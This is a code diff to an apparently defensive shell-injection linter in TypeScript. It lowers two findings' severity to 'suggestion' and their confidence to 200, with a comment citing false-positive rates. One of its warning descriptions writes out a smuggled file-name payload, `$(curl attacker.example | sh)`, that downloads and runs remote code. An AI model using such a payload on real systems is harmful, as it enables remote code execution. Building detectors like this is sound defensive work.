@@ -145,9 +145,9 @@ function hazardOf({ rule, reader, words }: CodeWord, origins: Origins): ShellHaz
       failureScenario: {
         description: `${origin === 'outside' ? 'What is read there holds' : 'Somebody calls the script with'} \`${payload(rule)}\`: ${reader} runs it, with the rights of this script.`,
       },
-      severity: origin === 'outside' ? 'warning' : 'suggestion',
-      // What its own user hands over: see `OF_ITS_USER` of the sinks.
-      confidence: origin === 'outside' ? 700 : 200,
+      // Folded: what is read here comes from the machine, its tools and its user, and of 13 labelled on ordinary commits one was right.
+      severity: 'suggestion',
+      confidence: 200,
     },
   ];
 }
@@ -214,7 +214,7 @@ function asCode(command: Command, value: string, what: string): ShellHazard {
       description:
         'Somebody makes a file, or a line, with the name `$(curl attacker.example | sh)`: the shell runs it, with the rights of this script.',
     },
-    severity: 'warning',
-    confidence: 700,
+    severity: 'suggestion',
+    confidence: 200,
   };
 }
